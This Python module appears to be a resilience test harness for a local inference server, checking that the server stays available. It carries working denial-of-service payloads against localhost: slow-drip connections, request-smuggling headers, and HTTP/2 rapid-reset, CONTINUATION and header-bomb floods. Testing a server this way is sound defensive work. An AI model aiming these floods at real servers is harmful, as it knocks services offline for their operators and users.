"""What a hostile client does with connections: holds them, sends slowly, reads nothing, or talks nonsense on them."""

from __future__ import annotations

import contextlib
import http.client
import json
import socket
import struct
import time
from contextlib import closing, contextmanager
from typing import TYPE_CHECKING

import raw_grpc as grpc
from attacks import MILLION, Attack, Ports, http_request
from raw_grpc import RawGrpc

if TYPE_CHECKING:
    from collections.abc import Iterator

LIVE = "/inference.GRPCInferenceService/ServerLive"
HOLD_S = 5.0
"""How long connections are held that do nothing, or next to nothing."""
FLOOD = (
    b"POST /v2/models/copy/infer HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1;a\nb\r\n{\r\n0\r\n\r\n",
    b"GET /v2/health/live HTTP/1.1\r\n\r\n",
    b"POST /v2/models/copy/infer HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n",
    b"POST /v2/models/copy/infer HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    b"POST /v2/models/copy/infer HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n{}",
    b"POST /v2/models/copy/infer HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999\r\n\r\n",
    b"POST /v2/models/copy/infer HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
    b"POST /v2/models/copy/infer HTTP/1.1\r\nHost: x\r\nInference-Header-Content-Length: 9999999\r\n"
    b"Content-Length: 2\r\n\r\n{}",
    b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /v2 HTTP/1.1\r\nHost: x\r\n" + b"X: y\r\n" * 20_000 + b"\r\n",
    b"GET /v2/models/%00%ff%0a/ready HTTP/1.1\r\nHost: x\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
    grpc.PREFACE,
    b"\r\n" * 50_000,
    b"\x00" * 100_000,
)


class NotServedError(Exception):
    """The server did not answer a client that it should have answered."""


def malformed_requests(ports: Ports) -> int:
    """Heads, bodies and bytes that are no requests, on both ports."""
    sent = 0
    for raw in FLOOD * 3:
        for port in (ports.http, ports.grpc):
            with contextlib.suppress(OSError), closing(_connect(port, 5)) as connection:
                connection.sendall(raw)
                connection.shutdown(socket.SHUT_WR)
                while connection.recv(1 << 16):
                    pass
            sent += len(raw)
    return sent


def idle_connections(ports: Ports, count: int = 2000) -> int:
    """Connections that are opened and never used; another client is served all the same."""
    with _held((ports.http, ports.grpc), count):
        time.sleep(HOLD_S)
        check_new_client(ports)
    return 0


def short_of_files(ports: Ports, count: int = 300) -> int:
    """The same where the server may open fewer files than that: clients beyond them are refused, health is not, and a
    worker that needs a file gets it."""
    with _held((ports.http,), count):
        time.sleep(HOLD_S)
        check_new_client(ports)
    if not _infers(ports):
        raise NotServedError
    return 0


def slow_heads(ports: Ports, count: int = 200) -> int:
    """A byte of the head at a time."""
    return _drip(ports.http, count, b"", http_request("/v2/models/copy/infer", b"")[:-2])


def slow_bodies(ports: Ports, count: int = 200) -> int:
    """A byte of the body at a time."""
    head = http_request("/v2/models/copy/infer", bytes(1 << 20))[: -(1 << 20)]
    return _drip(ports.http, count, head, b"{" + b" " * 100)


def slow_frames(ports: Ports, count: int = 200) -> int:
    """A byte of a gRPC call's head at a time."""
    return _drip(ports.grpc, count, grpc.PREFACE + grpc.settings(), grpc.headers(1, grpc.INFER))


def half_sent_bodies(ports: Ports, count: int = 24, size_bytes: int = 16 << 20) -> int:
    """Half of a large body each, and then silence."""
    body = bytes(size_bytes)
    head = http_request("/v2/models/copy/infer", body, "Inference-Header-Content-Length: 100")[:-size_bytes]
    with _held((ports.http,), count) as held:
        for connection in held:
            connection.settimeout(1)
            with contextlib.suppress(OSError):
                connection.sendall(head + body[: size_bytes // 2])
        time.sleep(HOLD_S)
    return count * size_bytes // 2


def unread_answers(ports: Ports, count: int = 6, size_bytes: int = 64 << 20) -> int:
    """Clients that ask for much and read nothing."""
    tensor = {"name": "IN", "datatype": "INT32", "shape": [1], "data": [size_bytes]}
    outputs = [{"name": "OUT", "parameters": {"binary_data": True}}]
    raw = http_request("/v2/models/large/infer", json.dumps({"inputs": [tensor], "outputs": outputs}).encode())
    with _held((ports.http,), count) as held:
        for connection in held:
            connection.sendall(raw)
        time.sleep(HOLD_S)
    return count * len(raw)


def abandoned_calls(ports: Ports, count: int = 3000) -> int:
    """Calls that wait for a model when their client leaves."""
    content = grpc.message(grpc.infer_request("slow", "BYTES", 1, struct.pack("<I", 1) + b"x"))
    raw = b"".join(grpc.headers(s, grpc.INFER) + grpc.data(s, content) for s in range(1, 2 * count, 2))
    with RawGrpc(ports.grpc) as client:
        client.send(raw)
        time.sleep(1)
    return len(raw)


def abandoned_queue(ports: Ports, clients: int = 20, count: int = 4000) -> int:
    """As many queued calls as a model may have, or nearly, whose clients leave all at once."""
    content = grpc.message(grpc.infer_request("slow", "BYTES", 1, struct.pack("<I", 1) + b"x"))
    raw = b"".join(grpc.headers(s, grpc.INFER) + grpc.data(s, content) for s in range(1, 2 * count, 2))
    with contextlib.ExitStack() as held:
        for _ in range(clients):
            client = held.enter_context(RawGrpc(ports.grpc))
            client.send(raw)
            _ping(client)
    time.sleep(HOLD_S)  # what their leaving takes is seen, too
    return clients * len(raw)


def rapid_resets(ports: Ports, count: int = 20_000) -> int:
    """Calls that are reset as soon as they are begun."""
    return _flood(
        ports,
        b"".join(
            grpc.headers(stream, LIVE) + grpc.frame(grpc.RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in range(1, 2 * count, 2)
        ),
    )


def resets_with_work(ports: Ports, count: int = 6000, size_bytes: int = 100_000) -> int:
    """Whole calls that are reset as soon as they wait for a model, on a connection that is held."""
    content = grpc.message(grpc.infer_request("slow", "BYTES", 1, struct.pack("<I", size_bytes) + bytes(size_bytes)))
    sent = 0
    with RawGrpc(ports.grpc, timeout_s=60) as client, contextlib.suppress(OSError):
        for stream in range(1, 2 * count, 2):
            raw = grpc.headers(stream, grpc.INFER) + grpc.data(stream, content)
            client.send(raw, grpc.frame(grpc.RST_STREAM, 0, stream, struct.pack(">I", 8)))
            sent += len(raw)
        _ping(client)
        time.sleep(HOLD_S)
    return sent


def resets_while_read(ports: Ports, count: int = 240, strings: int = MILLION) -> int:
    """Calls that take long to read and are reset at once, on a connection that is held."""
    described = grpc.field(1, b"IN") + grpc.field(2, b"BYTES") + grpc.field(3, grpc.varint(strings))
    described += grpc.field(5, grpc.field(8, b"a") * strings)
    content = grpc.message(grpc.field(1, b"text") + grpc.field(5, described))
    sent = 0
    with RawGrpc(ports.grpc, timeout_s=120) as client, contextlib.suppress(OSError):
        for stream in range(1, 2 * count, 2):
            raw = grpc.headers(stream, grpc.INFER) + grpc.data(stream, content)
            client.send(raw, grpc.frame(grpc.RST_STREAM, 0, stream, struct.pack(">I", 8)))
            sent += len(raw)
        time.sleep(HOLD_S)
    return sent


def leavers_while_read(ports: Ports, count: int = 240, strings: int = MILLION) -> int:
    """Clients that send what takes long to read and leave."""
    entry = b'{"inputs":[{"name":"IN","datatype":"BYTES","shape":[%d],"data":[%b"a"]}]}'
    raw = http_request("/v2/models/text/infer", entry % (strings, b'"a",' * (strings - 1)))
    for _ in range(count):
        with contextlib.suppress(OSError), closing(_connect(ports.http, 30)) as connection:
            connection.sendall(raw)
    return count * len(raw)


def endless_heads(ports: Ports, count: int = 20_000) -> int:
    """CONTINUATION frames without an end."""
    return _flood(ports, grpc.frame(grpc.HEADERS, 0, 1, b"\x82") + grpc.frame(9, 0, 1, b"\x82" * 100) * count)


def header_bomb(ports: Ports, count: int = 200) -> int:
    """A large field in the peer's table, named thousands of times in each head."""
    large = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    first = grpc.frame(grpc.HEADERS, grpc.END_HEADERS, 1, large)
    heads = [grpc.frame(grpc.HEADERS, grpc.END_HEADERS, 2 * n + 3, b"\xbe" * 16_000) for n in range(count)]
    return _flood(ports, first + b"".join(heads))


def ping_flood(ports: Ports, count: int = 100_000) -> int:
    return _flood(ports, grpc.frame(grpc.PING, 0, 0, bytes(8)) * count)


def check_new_client(ports: Ports) -> None:
    """Raises where a client that comes now is not told how the server is, within a few seconds."""
    try:
        with closing(http.client.HTTPConnection("127.0.0.1", ports.http, timeout=5)) as connection:
            connection.request("GET", "/v2/health/live")
            status = connection.getresponse().status
    except (OSError, http.client.HTTPException) as error:
        raise NotServedError from error
    if status != 200:
        raise NotServedError


def _infers(ports: Ports) -> bool:
    tensor = {"name": "IN", "datatype": "INT32", "shape": [1], "data": [4]}
    with closing(http.client.HTTPConnection("127.0.0.1", ports.http, timeout=10)) as connection:
        connection.request("POST", "/v2/models/large/infer", json.dumps({"inputs": [tensor]}))
        return connection.getresponse().status == 200


def _flood(ports: Ports, raw: bytes) -> int:
    """Sends frames and reads what comes until the server has had enough, or a while is over."""
    with RawGrpc(ports.grpc, timeout_s=10) as client, contextlib.suppress(OSError):
        client.send(raw)
        _ping(client)
    return len(raw)


def _ping(client: RawGrpc) -> None:
    """Waits until the server has looked at all that was sent, or has had enough."""
    client.send(grpc.frame(grpc.PING, 0, 0, b"the last"))
    while (found := client.read_frame()) is not None:
        if found[0] == grpc.GOAWAY or (found[0] == grpc.PING and found[3] == b"the last"):
            break


def _drip(port: int, count: int, first: bytes, rest: bytes) -> int:
    end_s = time.monotonic() + HOLD_S
    with _held((port,), count) as held:
        for connection in held:
            connection.sendall(first)
        for byte in rest:
            if time.monotonic() > end_s:
                break
            for connection in held:
                with contextlib.suppress(OSError):
                    connection.sendall(bytes([byte]))
            time.sleep(0.05)
    return count * (len(first) + len(rest))


@contextmanager
def _held(ports: tuple[int, ...], count: int) -> Iterator[list[socket.socket]]:
    """As many connections, as far as the server takes them."""
    with contextlib.ExitStack() as stack:
        held = []
        for number in range(count):
            with contextlib.suppress(OSError):
                held.append(stack.enter_context(closing(_connect(ports[number % len(ports)], 2))))
        yield held


def _connect(port: int, timeout_s: float) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=timeout_s)


CONNECTION_ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        malformed_requests,
        idle_connections,
        slow_heads,
        slow_bodies,
        slow_frames,
        half_sent_bodies,
        unread_answers,
        abandoned_calls,
        abandoned_queue,
        rapid_resets,
        resets_with_work,
        resets_while_read,
        leavers_while_read,
        endless_heads,
        header_bomb,
        ping_flood,
    )
}
